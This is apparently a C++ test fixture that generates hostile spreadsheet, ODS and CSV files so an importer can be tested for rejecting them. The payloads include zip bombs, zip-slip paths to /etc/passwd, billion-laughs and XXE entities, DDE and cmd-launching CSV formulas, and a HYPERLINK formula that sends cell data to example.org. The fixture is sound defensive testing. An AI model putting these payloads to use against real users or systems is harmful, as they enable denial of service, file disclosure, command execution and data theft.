// Makes the hostile files: archives that lie about themselves, XML that calls for more, text that is no text.
#include "tests/journeys/hostile_files.h"
#include "base/moment.h"
#include "document/zip_archive.h"
#include <map>

namespace reeve::journeys {
namespace {

using document::ZipEntry;

std::string zip(const std::vector<ZipEntry>& entries) { return document::zip_of(entries, Moment{}); }

// A zip file written by hand, so that it can lie: one stored part, with any name, flags and sizes.
struct Lie {
    std::string name = "xl/workbook.xml";
    std::string bytes = "<workbook/>";
    unsigned flags = 0;
    unsigned long long says = 11; // bytes unpacked; more than 32 bits go into the ZIP64 field
    int times = 1;                // how often the part stands in the list
};
std::string number(unsigned long long value, int bytes) {
    std::string made;
    for (int at = 0; at < bytes; ++at) made += static_cast<char>((value >> (8 * at)) & 0xFF);
    return made;
}
std::string lying_zip(const Lie& lie) {
    bool is_huge = lie.says > 0xFFFFFFFEULL;
    auto shown = number(is_huge ? 0xFFFFFFFFULL : lie.says, 4);
    auto more = is_huge ? number(1, 2) + number(8, 2) + number(lie.says, 8) : "";
    auto facts = number(lie.flags, 2) + number(0, 2) + number(0, 4) + number(0, 4) + number(lie.bytes.size(), 4) + shown
                 + number(lie.name.size(), 2) + number(more.size(), 2);
    auto local = "PK\x03\x04" + number(45, 2) + facts + lie.name + more + lie.bytes;
    std::string list;
    for (int at = 0; at < lie.times; ++at)
        list += "PK\x01\x02" + number(45, 2) + number(45, 2) + facts + number(0, 2) + number(0, 2) + number(0, 2)
                + number(0, 4) + number(0, 4) + lie.name + more;
    auto times = static_cast<unsigned long long>(lie.times);
    return local + list + "PK\x05\x06" + number(0, 4) + number(times, 2) + number(times, 2) + number(list.size(), 4)
           + number(local.size(), 4) + number(0, 2);
}

using Parts = std::map<std::string, std::string>;
std::string xlsx(const Parts& changed) {
    Parts parts = {
        {"xl/workbook.xml", R"(<workbook xmlns:r="r"><sheets><sheet name="Rows" r:id="rId1"/></sheets></workbook>)"},
        {"xl/_rels/workbook.xml.rels",
         R"(<R><Relationship Id="rId1" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="x/sharedStrings" Target="sharedStrings.xml"/></R>)"},
        {"xl/sharedStrings.xml", "<sst><si><t>Action</t></si></sst>"},
        {"xl/worksheets/sheet1.xml",
         R"(<worksheet><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>)"}};
    for (const auto& [path, bytes] : changed) parts[path] = bytes;
    std::vector<ZipEntry> entries;
    for (const auto& [path, bytes] : parts) entries.push_back({path, bytes});
    return zip(entries);
}
std::string sheet(const std::string& rows) {
    return xlsx({{"xl/worksheets/sheet1.xml", "<worksheet><sheetData>" + rows + "</sheetData></worksheet>"}});
}
std::string ods(const std::string& content, std::vector<ZipEntry> more = {}) {
    std::vector<ZipEntry> entries = {{"mimetype", "application/vnd.oasis.opendocument.spreadsheet"},
                                     {"content.xml", content}};
    entries.insert(entries.end(), more.begin(), more.end());
    return zip(entries);
}

const std::string laughs = "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c "
                           "\"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]>";

constexpr const char* larger = "holds far more than its size says";
constexpr const char* macros = "The workbook contains macros";
constexpr const char* links = "The workbook links to another workbook";
constexpr const char* doctype = "The workbook declares a document type";
constexpr const char* damaged = "The workbook is damaged";
constexpr const char* no_workbook = "The file is not an XLSX or ODS workbook";
constexpr const char* password = "The workbook is password protected";
constexpr const char* leads_out = "a path that leads out of the file";
constexpr const char* not_text = "not UTF-8";

void add_archives(std::vector<HostileFile>& files) {
    auto nested = zip({{"a.zip", zip({{"b.zip", zip({{"c.txt", std::string(1 << 20, '0')}})}})}});
    std::vector<ZipEntry> crowd;
    for (int at = 0; at < 2'001; ++at) crowd.push_back({"xl/part" + std::to_string(at), ""});
    auto whole = xlsx({});
    files.insert(
        files.end(),
        {{"a zip bomb", "a.xlsx", xlsx({{"xl/sharedStrings.xml", std::string(30 << 20, ' ')}}), larger},
         {"a bomb in a part that nobody reads", "b.xlsx", xlsx({{"xl/media/x.bin", std::string(30 << 20, ' ')}}),
          larger},
         {"a bomb as ODS", "c.ods", ods(std::string(30 << 20, ' ')), larger},
         {"zips inside zips", "d.xlsx", nested, no_workbook},
         {"zips inside a workbook", "e.xlsx", xlsx({{"xl/embeddings/a.zip", nested}}),
          "holds another file inside itself"},
         {"10 GB by its own word", "f.xlsx", lying_zip({.says = 10ULL << 30}), larger},
         {"4 GB by its own word", "g.xlsx", lying_zip({.says = 0xFFFFFFF0ULL}), larger},
         {"the same part twice", "h.xlsx", lying_zip({.times = 2}), damaged},
         {"two thousand parts and one", "i.xlsx", zip(crowd), larger},
         {"a path out of the folder", "j.xlsx", zip({{"../../../../etc/passwd", "root"}}), leads_out},
         {"a path from the root", "k.xlsx", zip({{"/etc/passwd", "root"}}), leads_out},
         {"a path with backslashes", "l.xlsx", zip({{"..\\..\\windows\\system.ini", "x"}}), leads_out},
         {"a sheet that lies outside", "m.xlsx",
          xlsx({{"xl/_rels/workbook.xml.rels", R"(<R><Relationship Id="rId1" Target="../../../etc/passwd"/></R>)"}}),
          "no sheet that can be read"},
         {"a sheet on another machine", "n.xlsx",
          xlsx({{"xl/_rels/workbook.xml.rels",
                 R"(<R><Relationship Id="rId1" TargetMode="External" Target="http://example.org/s.xml"/></R>)"}}),
          "no sheet that can be read"},
         {"a part that is encrypted", "o.xlsx", lying_zip({.flags = 1}), password},
         {"a workbook with a password", "p.xlsx", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", password},
         {"half a workbook", "q.xlsx", whole.substr(0, whole.size() / 2), damaged},
         {"four bytes of one", "r.xlsx", std::string("PK\x03\x04"), damaged}});
}

void add_workbooks(std::vector<HostileFile>& files) {
    auto cell = [](const std::string& name) { return "<row r=\"1\"><c r=\"" + name + "\"><v>1</v></c></row>"; };
    files.insert(
        files.end(),
        {{"a billion laughs", "a.xlsx", xlsx({{"xl/sharedStrings.xml", laughs + "<sst><si><t>&d;</t></si></sst>"}}),
          doctype},
         {"laughs in the list of sheets", "b.xlsx", xlsx({{"xl/workbook.xml", laughs + "<workbook>&d;</workbook>"}}),
          doctype},
         {"laughs as ODS", "c.ods", ods(laughs + "<office>&d;</office>"), doctype},
         {"a file of the machine as entity", "d.xlsx",
          xlsx({{"xl/worksheets/sheet1.xml",
                 "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><worksheet>&e;</worksheet>"}}),
          doctype},
         {"an address as entity", "e.xlsx",
          xlsx({{"xl/sharedStrings.xml", "<!DOCTYPE x SYSTEM \"http://example.org/x.dtd\"><sst/>"}}), doctype},
         {"XML that never ends", "f.xlsx", xlsx({{"xl/workbook.xml", "<workbook><sheets>"}}), damaged},
         {"macros", "g.xlsm", xlsx({{"xl/vbaProject.bin", "x"}}), macros},
         {"macros of the old kind", "h.xlsm", xlsx({{"xl/macrosheets/sheet1.xml", "<x/>"}}), macros},
         {"macros as ODS", "i.ods", ods("<x/>", {{"Basic/Standard/Module1.xml", "<x/>"}}), macros},
         {"links to another workbook, DDE among them", "j.xlsx",
          xlsx({{"xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>"}}),
          links},
         {"a DDE link as ODS", "k.ods", ods("<x><table/><dde-links><dde-link/></dde-links></x>"), links},
         {"a linked table as ODS", "l.ods", ods("<x><table><table-source href=\"file:///etc/passwd\"/></table></x>"),
          links},
         {"data fetched from elsewhere", "m.xlsx", xlsx({{"xl/connections.xml", "<x/>"}}),
          "fetches data from elsewhere"},
         {"controls that run", "n.xlsx", xlsx({{"xl/activeX/activeX1.xml", "<x/>"}}), "holds controls that run"},
         {"a binary workbook", "o.xlsb", xlsx({{"xl/workbook.bin", "x"}}), "in the XLSB format"},
         {"a Word document by another name", "p.xlsx", zip({{"word/document.xml", "<x/>"}}), "is a Word document"},
         {"slides by another name", "q.xlsx", zip({{"ppt/presentation.xml", "<x/>"}}), "is a presentation"},
         {"a drawing as ODS", "r.ods",
          zip({{"mimetype", "application/vnd.oasis.opendocument.graphics"}, {"content.xml", "<x/>"}}),
          "but no spreadsheet"},
         {"a password as ODS", "s.ods", ods("<x/>", {{"META-INF/manifest.xml", "<m><encryption-data/></m>"}}),
          password},
         {"a cell in column two million", "t.xlsx", sheet(cell("ZZZZZ1")), damaged},
         {"a cell in column 501", "u.xlsx", sheet(cell("SG1")), "more than 500 columns"},
         {"a cell in row a million", "w.xlsx", sheet("<row r=\"1000000\"><c r=\"A1000000\"><v>1</v></c></row>"),
          "more than 100,000 rows"},
         {"a cell that is a book", "x.xlsx",
          sheet("<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>" + std::string(200'000, 'x') + "</t></is></c></row>"),
          "more text than a cell may"},
         {"one row repeated a million times", "y.ods",
          ods("<x><table><table-row number-rows-repeated=\"1000000\"><table-cell value-type=\"float\" value=\"1\"/></table-row></table></x>"),
          "more than 100,000 rows"},
         {"one cell repeated two million times", "z.ods",
          ods("<x><table><table-row><table-cell number-columns-repeated=\"2000000\" value-type=\"float\" value=\"1\"/></table-row></table></x>"),
          "more than 500 columns"}});
}

void add_texts(std::vector<HostileFile>& files) {
    std::string utf16 = "\xFF\xFE";
    for (char c : std::string("Action,Owner\nAsk,Clerk\n")) utf16 += std::string(1, c) + '\0';
    std::string nul = "Action,Owner\nAsk";
    nul += '\0';
    auto formula = [](const std::string& cell) { return "Action,Owner\n\"" + cell + "\",Chief Executive\n"; };
    constexpr const char* is_formula = "The cell holds a formula";
    files.insert(files.end(),
                 {{"two million columns", "b.csv", std::string(2'000'000, ','), "columns"},
                  {"UTF-16", "c.csv", utf16, "NUL byte"},
                  {"NUL", "d.csv", nul, "NUL byte"},
                  {"half a character", "e.csv", "Action,Owner\nAsk \xC3,x\n", not_text},
                  {"a quote that never closes", "f.csv", "Action,Owner\n\"Ask,x\n", "quote"},
                  {"a picture", "g.csv", "\x89PNG\r\n\x1A\n\xFF\xD8rest", not_text},
                  {"a program", "h.csv",
                   std::string("\x7F"
                               "ELF\x02\x01\x01\0\0\0",
                               10),
                   "NUL byte"},
                  {"a squeezed file", "i.csv", "\x1F\x8B\x08\xFFrest", not_text},
                  {"a formula", "j.csv", formula("=1+1"), is_formula},
                  {"a formula that starts a program", "k.csv", formula("=cmd|' /C calc'!A0"), is_formula},
                  {"a program behind a number", "l.csv", formula("-2+3+cmd|' /C calc'!A0"), is_formula},
                  {"a function behind a sign", "m.csv", formula("@SUM(1+1)*cmd|' /C calc'!A0"), is_formula},
                  {"a link that sends the sheet away", "n.csv",
                   formula("=HYPERLINK(\"\"http://example.org/?\"\"&A1,\"\"x\"\")"), is_formula}});
}

} // namespace

std::vector<HostileFile> hostile_files() {
    std::vector<HostileFile> files;
    add_archives(files);
    add_workbooks(files);
    add_texts(files);
    return files;
}

} // namespace reeve::journeys
